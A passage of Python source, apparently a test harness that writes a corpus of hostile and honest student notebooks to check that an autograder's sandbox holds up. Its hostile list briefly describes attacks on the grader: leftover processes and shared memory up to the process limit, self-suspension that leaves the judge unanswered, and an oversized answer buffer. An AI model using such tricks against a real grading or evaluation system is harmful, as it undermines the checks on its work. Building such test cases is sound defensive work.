    (leave_processes, "SysV shared memory with a note, detached sleepers up to the process limit"),
    (stop_reading, "SIGSTOP itself after one answer: the judge's next request finds nobody reading"),
    (huge_answer, "a 64 MB PE buffer in the answer"),
]


def honest_class():
    """Three ordinary students: a correct notebook in another style, a realistic bug, a partial submission."""
    return {
        "honest_correct": fill_handout(NOT_THE_MASTER),
        "honest_bug": fill_handout(_BUGS["mha_softmax_over_queries"]),
        "honest_partial": pe_only_notebook(),
    }


def write_neighbour_corpus(directory, *, port, token, honest=True, hostile=True):
    """The honest class (IDs 2099-009xx, graded after everything else) and, before it, every hostile case:
    the code cases, the attacks on the cage and the archive cases. Returns {name: Case}."""
    directory = Path(directory)
    directory.mkdir(parents=True, exist_ok=True)
    ctx = {"port": port, "token": token}
    cases = {}
    if hostile:
        for number, (builder, what) in enumerate(CODE_CASES + CAGE_CASES, start=1):
            key = ID.format(number)
            (directory / f"{key}.ipynb").write_bytes(dumps(builder(ctx)))
            cases[builder.__name__] = Case(builder.__name__, key, f"{key}.ipynb", what)
        for name, filename, key, content, what in archive_cases(ctx):
            path = directory / filename
            content(path) if callable(content) else path.write_bytes(content)
            cases[name] = Case(name, key, filename, what)
    if honest:
        for number, (name, notebook) in enumerate(honest_class().items(), start=901):
            key = f"2099-{number:05d}"
            (directory / f"{key}.ipynb").write_bytes(dumps(notebook))
            cases[name] = Case(name, key, f"{key}.ipynb", "an honest student")
    return cases
